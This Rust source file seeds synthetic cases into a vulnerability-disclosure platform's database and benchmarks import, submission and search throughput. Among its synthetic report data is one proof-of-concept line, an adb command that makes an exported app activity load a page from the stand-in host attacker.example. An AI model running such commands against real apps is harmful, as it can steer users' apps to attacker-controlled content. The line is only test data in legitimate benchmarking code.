//! `appvd db bench`: case insert and search throughput on a fresh database.
//!
//! Measures what the platform does at scale: bulk import of N cases (batches of 1,000 in one
//! transaction each), single report submissions (one transaction each, with receipt and event
//! chains, as the intake does), public searches (Chinese and English), advisory list pages and
//! staff searches. Prints a table; `--json` prints the figures for scripts.

use std::process::ExitCode;
use std::time::Instant;

use anyhow::Context;
use appvd_domain::case::{Case, CaseOpening, CaseProduct, CaseState, CaseType, FixInfo};
use appvd_domain::grade::Grade;
use appvd_domain::ids::{CaseId, CaseIdPrefix, TrackingCode};
use appvd_domain::org::{Jurisdiction, NewOrganisation, OrgKind};
use appvd_domain::product::{NewProduct, Platform};
use appvd_domain::receipt::Channel;
use appvd_domain::report::NewReport;
use appvd_store::{AdvisoryFilter, Store, SubmittedReport};
use rand::Rng;
use time::{Duration, OffsetDateTime};

use crate::support::say;

#[derive(Debug, clap::Args)]
pub struct SeedArgs {
    /// Number of synthetic cases to add (two in three published).
    #[arg(long, default_value_t = 100_000)]
    cases: u32,
}

/// `appvd db seed`: adds synthetic cases (Chinese and English text, every platform and grade) to
/// the configured database, for load tests and for trying search at scale.
pub async fn seed(store: &Store, args: &SeedArgs) -> anyhow::Result<ExitCode> {
    let mut rng = rand::rng();
    let now = OffsetDateTime::now_utc();
    let product = bench_product(store, now).await?;
    let first = seeded_count(store).await?;
    let started = Instant::now();
    let mut batch = Vec::with_capacity(1_000);
    for i in first..first.saturating_add(args.cases) {
        batch.push(synthetic_case(i, &product, &mut rng, now)?);
        if batch.len() == 1_000 {
            store.import_cases(&batch, None, now).await?;
            batch.clear();
        }
    }
    if !batch.is_empty() {
        store.import_cases(&batch, None, now).await?;
    }
    say(&format!(
        "added {} synthetic cases (prefix BENCH) in {:.1} s",
        args.cases,
        started.elapsed().as_secs_f64()
    ));
    Ok(ExitCode::SUCCESS)
}

#[derive(Debug, clap::Args)]
pub struct BenchArgs {
    /// Number of cases to import.
    #[arg(long, default_value_t = 100_000)]
    cases: u32,
    /// Number of single report submissions to time.
    #[arg(long, default_value_t = 1_000)]
    submissions: u32,
    /// Number of searches of each kind to time.
    #[arg(long, default_value_t = 2_000)]
    searches: u32,
    /// PostgreSQL server to measure (a fresh schema is created and dropped); SQLite in a temporary
    /// directory when absent.
    #[arg(long)]
    postgres_url: Option<String>,
    /// Print the figures as JSON.
    #[arg(long)]
    json: bool,
}

const WORDS_ZH: &[&str] = &[
    "任意文件读取",
    "越权访问",
    "信息泄露",
    "远程代码执行",
    "证书校验",
    "日志输出",
    "组件导出",
    "拒绝服务",
];
const WORDS_EN: &[&str] = &[
    "webview",
    "provider",
    "certificate",
    "intent",
    "logging",
    "deeplink",
    "keystore",
    "clipboard",
];
const VENDORS: &[&str] = &["星河", "云途", "Acme", "北辰", "Lumen", "青柠"];

/// The vendor and product the synthetic cases belong to (`com.bench.app`), created on first use.
async fn bench_product(store: &Store, now: OffsetDateTime) -> anyhow::Result<CaseProduct> {
    let product = match store
        .product_by_package(Platform::Android, BENCH_PACKAGE)
        .await?
    {
        Some(product) => product,
        None => {
            let org = NewOrganisation {
                name: "Bench Vendor".into(),
                kind: OrgKind::Vendor,
                jurisdiction: Jurisdiction::Domestic,
                security_contact: None,
            }
            .validate()?;
            let org = store.create_org(&org, now).await?;
            let product = NewProduct {
                vendor_org: org.id,
                name: "Bench App".into(),
                platform: Platform::Android,
                package_id: BENCH_PACKAGE.into(),
                store_url: None,
                signing_cert_sha256: None,
            }
            .validate()?;
            store.create_product(&product, now).await?
        }
    };
    let org = store.org(product.vendor_org).await?;
    Ok(CaseProduct {
        product: product.id,
        vendor_org: org.id,
        vendor_name: org.name,
        vendor_jurisdiction: org.jurisdiction,
        name: product.name,
        platform: product.platform,
        package_id: product.package_id,
    })
}

const BENCH_PACKAGE: &str = "com.bench.app";

/// How many synthetic cases an earlier seed added: they are numbered 1..=n without gaps, so a
/// binary search over "does BENCH-2025-k exist" finds n in a few dozen lookups.
async fn seeded_count(store: &Store) -> anyhow::Result<u32> {
    let prefix = CaseIdPrefix::new("BENCH")?;
    let exists = async |n: u32| -> anyhow::Result<bool> {
        Ok(store
            .case(&CaseId::new(prefix.clone(), 2025, n)?)
            .await?
            .is_some())
    };
    let (mut present, mut absent) = (0_u32, 1_u32);
    while exists(absent).await? {
        present = absent;
        absent = absent.saturating_mul(2);
        if absent == u32::MAX {
            break;
        }
    }
    while absent - present > 1 {
        let middle = present + (absent - present) / 2;
        if exists(middle).await? {
            present = middle;
        } else {
            absent = middle;
        }
    }
    Ok(present)
}

/// Synthetic case `i` of `product`: ids `BENCH-2025-…`, so seeded and real cases never collide;
/// the names shown vary so that search has something to tell apart.
fn synthetic_case(
    i: u32,
    product: &CaseProduct,
    rng: &mut impl Rng,
    now: OffsetDateTime,
) -> anyhow::Result<Case> {
    let zh = WORDS_ZH[rng.random_range(0..WORDS_ZH.len())];
    let en = WORDS_EN[rng.random_range(0..WORDS_EN.len())];
    let vendor = VENDORS[rng.random_range(0..VENDORS.len())];
    let platform =
        [Platform::Android, Platform::Ios, Platform::MiniProgram][rng.random_range(0..3)];
    let grade = [Grade::Critical, Grade::High, Grade::Medium, Grade::Low][rng.random_range(0..4)];
    let at = now - Duration::minutes(i64::from(i));
    let mut case = Case::open(
        CaseOpening {
            id: CaseId::new(CaseIdPrefix::new("BENCH")?, 2025, i + 1)?,
            case_type: CaseType::General,
            title: format!("{vendor}应用{i}存在{zh}漏洞 ({en})"),
            description: format!(
                "Case {i}: the {en} component of app {i} allows {zh}. 复现步骤见附件，影响版本 {}.x。",
                i % 17
            ),
            affected_versions: format!("< {}.0", i % 9 + 1),
            product: Some(CaseProduct {
                vendor_name: format!("{vendor}科技"),
                name: format!("{vendor} App {i}"),
                platform,
                package_id: format!("com.{}.app{i}", en),
                ..product.clone()
            }),
            reporter: None,
        },
        at,
    );
    case.grade = Some(grade);
    // Two cases in three are published, so public and staff searches differ.
    if !i.is_multiple_of(3) {
        case.state = CaseState::Published;
        case.published_at = Some(at);
        case.advisory_summary = Some(format!("{vendor} App {i} 中的 {en} 问题可导致{zh}。"));
        case.remediation = Some("升级到最新版本。".into());
        case.fix = Some(FixInfo {
            fixed_versions: format!("{}.0", i % 9 + 1),
            released_on: at.date(),
            user_notice: "Update.".into(),
        });
    } else {
        case.state = CaseState::Fixing;
    }
    Ok(case)
}

struct Figure {
    name: &'static str,
    count: u64,
    seconds: f64,
}

impl Figure {
    fn rate(&self) -> f64 {
        self.count as f64 / self.seconds.max(1e-9)
    }
}

pub async fn run(args: BenchArgs) -> anyhow::Result<ExitCode> {
    let dir = tempfile::tempdir().context("cannot create a temporary directory")?;
    let (store, cleanup) = match &args.postgres_url {
        None => (Store::open_data_dir(dir.path()).await?, None),
        Some(url) => {
            let schema = format!("bench_{}", std::process::id());
            let admin = sqlx_admin(url).await?;
            admin.execute(&format!("CREATE SCHEMA {schema}")).await?;
            (
                Store::connect_with_schema(url, Some(&schema)).await?,
                Some((admin, schema)),
            )
        }
    };
    store.migrate().await?;
    let result = measure(&store, &args).await;
    store.close().await;
    if let Some((admin, schema)) = cleanup {
        admin
            .execute(&format!("DROP SCHEMA {schema} CASCADE"))
            .await?;
    }
    let figures = result?;
    if args.json {
        let list: Vec<serde_json::Value> = figures
            .iter()
            .map(|f| serde_json::json!({ "name": f.name, "count": f.count, "seconds": f.seconds, "per_second": f.rate() }))
            .collect();
        say(&serde_json::json!({ "backend": store.backend().as_str(), "cases": args.cases, "figures": list }).to_string());
    } else {
        say(&format!(
            "backend: {}   cases: {}",
            store.backend().as_str(),
            args.cases
        ));
        say(&format!(
            "{:<44} {:>9} {:>10} {:>12}",
            "operation", "count", "seconds", "per second"
        ));
        for f in &figures {
            say(&format!(
                "{:<44} {:>9} {:>10.3} {:>12.0}",
                f.name,
                f.count,
                f.seconds,
                f.rate()
            ));
        }
    }
    Ok(ExitCode::SUCCESS)
}

async fn measure(store: &Store, args: &BenchArgs) -> anyhow::Result<Vec<Figure>> {
    let mut rng = rand::rng();
    let now = OffsetDateTime::now_utc();
    let mut figures = Vec::new();
    let case_product = bench_product(store, now).await?;

    let started = Instant::now();
    let mut batch = Vec::with_capacity(1_000);
    for i in 0..args.cases {
        batch.push(synthetic_case(i, &case_product, &mut rng, now)?);
        if batch.len() == 1_000 {
            store.import_cases(&batch, None, now).await?;
            batch.clear();
        }
    }
    if !batch.is_empty() {
        store.import_cases(&batch, None, now).await?;
    }
    figures.push(Figure {
        name: "bulk import (1,000 per transaction)",
        count: u64::from(args.cases),
        seconds: started.elapsed().as_secs_f64(),
    });

    let prefix = CaseIdPrefix::default();
    let started = Instant::now();
    for i in 0..args.submissions {
        let report = NewReport {
            product: case_product.product,
            title: format!("提交的报告 {i}: exported activity"),
            description: format!(
                "Report {i} describes an exported activity that loads any URL. 详细描述。"
            ),
            steps: None,
            affected_versions: "1.0".into(),
            case_type: CaseType::General,
            cvss_vector: None,
            poc: Some(
                "adb shell am start -n com.bench.app/.Web -d https://attacker.example".into(),
            ),
            channel: Channel::Api,
        }
        .validate()?;
        store
            .submit_report(SubmittedReport {
                report: &report,
                product: Some(case_product.clone()),
                reporter: None,
                tracking_code: TrackingCode::from_random(rng.random()),
                received_at: OffsetDateTime::now_utc(),
                prefix: &prefix,
            })
            .await?;
    }
    figures.push(Figure {
        name: "report submission (case+receipt+event)",
        count: u64::from(args.submissions),
        seconds: started.elapsed().as_secs_f64(),
    });

    let mut hits = 0_u64;
    let started = Instant::now();
    for i in 0..args.searches {
        let q = if i % 2 == 0 {
            WORDS_ZH[i as usize % WORDS_ZH.len()].to_owned()
        } else {
            format!("{} app{}", WORDS_EN[i as usize % WORDS_EN.len()], i % 50)
        };
        let page = store
            .advisories(
                &AdvisoryFilter {
                    query: Some(q),
                    ..AdvisoryFilter::default()
                },
                1,
                20,
            )
            .await?;
        hits += u64::from(!page.items.is_empty());
    }
    figures.push(Figure {
        name: "public search (zh and en, page of 20)",
        count: u64::from(args.searches),
        seconds: started.elapsed().as_secs_f64(),
    });
    if hits == 0 {
        anyhow::bail!("no search found anything: the benchmark data or the index is broken");
    }

    let started = Instant::now();
    for i in 0..args.searches {
        let filter = AdvisoryFilter {
            grade: Some([Grade::Critical, Grade::High, Grade::Medium, Grade::Low][i as usize % 4]),
            ..AdvisoryFilter::default()
        };
        store.advisories(&filter, i % 50 + 1, 20).await?;
    }
    figures.push(Figure {
        name: "advisory list page (grade filter)",
        count: u64::from(args.searches),
        seconds: started.elapsed().as_secs_f64(),
    });

    let started = Instant::now();
    for i in 0..args.searches {
        store
            .search_cases(WORDS_ZH[i as usize % WORDS_ZH.len()], 1, 20)
            .await?;
    }
    figures.push(Figure {
        name: "staff search (all cases)",
        count: u64::from(args.searches),
        seconds: started.elapsed().as_secs_f64(),
    });

    let started = Instant::now();
    for i in 0..args.searches {
        let id = CaseId::new(
            CaseIdPrefix::new("BENCH")?,
            2025,
            (i * 7919) % args.cases.max(1) + 1,
        )?;
        store.advisory(&id).await?;
    }
    figures.push(Figure {
        name: "advisory by id",
        count: u64::from(args.searches),
        seconds: started.elapsed().as_secs_f64(),
    });
    Ok(figures)
}

/// A one-connection PostgreSQL client for creating and dropping the benchmark's schema.
struct Admin(sqlx::PgPool);

async fn sqlx_admin(url: &str) -> anyhow::Result<Admin> {
    Ok(Admin(
        sqlx::postgres::PgPoolOptions::new()
            .max_connections(1)
            .connect(url)
            .await
            .context("cannot connect to --postgres-url")?,
    ))
}

impl Admin {
    async fn execute(&self, sql: &str) -> anyhow::Result<()> {
        // The schema name is ours (letters, digits, underscore), never user input.
        sqlx::query(sqlx::AssertSqlSafe(sql.to_owned()))
            .execute(&self.0)
            .await?;
        Ok(())
    }
}
